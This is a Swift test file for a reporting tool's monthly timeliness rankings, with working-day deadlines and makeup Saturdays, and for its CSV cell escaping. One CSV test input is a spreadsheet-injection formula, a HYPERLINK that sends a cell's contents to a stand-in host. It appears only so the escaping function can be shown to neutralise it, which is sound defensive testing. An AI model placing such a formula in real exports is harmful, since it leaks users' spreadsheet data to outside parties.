import Testing
import XGateFileSystem
import XGateTestSupport

@testable import XGateCore

/// The monthly ranking figures: timeliness against 7 working days (调休 included), compliance, reporting.
@Suite struct TimelinessReportTests {
    let calendar: WorkingDayCalendar

    init() throws { calendar = try ContractsDirectory.load(RepositoryPaths.contracts).calendar }

    /// 08:00 China time on a date.
    func morning(_ date: String) -> Timestamp { Timestamp(CivilDate(date)!.description + "T08:00:00+08:00")! }

    func decision(_ department: String, _ date: String, arrived: String, district: String = "sh-songjiang") -> TimelinessReport.Decision {
        TimelinessReport.Decision(
            district: district, department: department, decisionDate: CivilDate(date)!, firstArrival: morning(arrived))
    }

    @Test func theDeadlineIsTheSeventhWorkingDayCountingTheMakeupSaturday() throws {
        // Decided Wednesday 30 September 2026: 1–7 October are National Day, Saturday 10 October is a makeup working
        // day, so the 7th working day is Thursday 15 October (not Friday 16th, as plain weekdays would give).
        let amr = "上海市松江区市场监督管理局"
        let report = TimelinessReport.compute(
            year: 2026, month: 9,
            decisions: [
                decision(amr, "2026-09-30", arrived: "2026-10-15"), decision(amr, "2026-09-30", arrived: "2026-10-16"),
                decision(amr, "2026-09-29", arrived: "2026-09-29"), decision("上海市松江区生态环境局", "2026-09-21", arrived: "2026-10-20"),
                decision(amr, "2026-10-09", arrived: "2026-10-09"),  // October's, not September's
            ],
            refusals: [
                ("sh-songjiang", morning("2026-09-28")), ("sh-songjiang", morning("2026-10-02")), ("sh-pudong", morning("2026-09-03")),
            ],
            expected: ["sh-songjiang": [amr: 4]], calendar: calendar)
        let total = try #require(report.lines.first { $0.district == "sh-songjiang" && $0.department == nil })
        #expect(total.received == 4 && total.timely == 2 && total.refused == 1)
        #expect(total.timelinessRate == 0.5)
        #expect(total.complianceRate == 0.8)
        let market = try #require(report.lines.first { $0.department == amr })
        #expect(market.received == 3 && market.timely == 2 && market.reportingRate == 0.75)
        let ecology = try #require(report.lines.first { $0.department == "上海市松江区生态环境局" })
        #expect(ecology.timely == 0 && ecology.reportingRate == nil, "no expected count, no reporting rate")
        let pudong = try #require(report.lines.first { $0.district == "sh-pudong" })
        #expect(pudong.received == 0 && pudong.refused == 1 && pudong.complianceRate == 0 && pudong.timelinessRate == nil)
        #expect(report.lines.map(\.district) == ["sh-pudong", "sh-songjiang", "sh-songjiang", "sh-songjiang"])
    }

    @Test func aDeadlineInAYearWithoutACalendarIsUndeterminedNotAFailure() {
        // 29 December 2027: the 7th working day falls in 2028, for which there is no calendar file yet.
        let report = TimelinessReport.compute(
            year: 2027, month: 12,
            decisions: [
                decision("上海市松江区市场监督管理局", "2027-12-29", arrived: "2027-12-30"),
                decision("上海市松江区市场监督管理局", "2027-12-01", arrived: "2027-12-02"),
            ],
            refusals: [], calendar: calendar)
        let total = report.lines.first { $0.department == nil }
        #expect(total?.received == 2 && total?.undetermined == 1 && total?.timely == 1)
        #expect(total?.timelinessRate == 1.0, "the undetermined decision is left out of the rate")
    }
}

/// Exports opened in a spreadsheet: text from other platforms must not run as a formula.
struct CSVCellTests {
    @Test func formulasAreNeutralisedAndSeparatorsQuoted() {
        #expect(csvCell("上海市松江区市场监督管理局") == "上海市松江区市场监督管理局")
        #expect(csvCell("=HYPERLINK(\"http://x/?\"&A1)") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"")
        #expect(csvCell("+86 21 1234") == "'+86 21 1234")
        #expect(csvCell("-1") == "'-1")
        #expect(csvCell("@SUM(A1)") == "'@SUM(A1)")
        #expect(csvCell("a,b") == "\"a,b\"")
        #expect(csvCell("line\rbreak") == "\"line\rbreak\"")
        #expect(csvCell("") == "")
    }
}
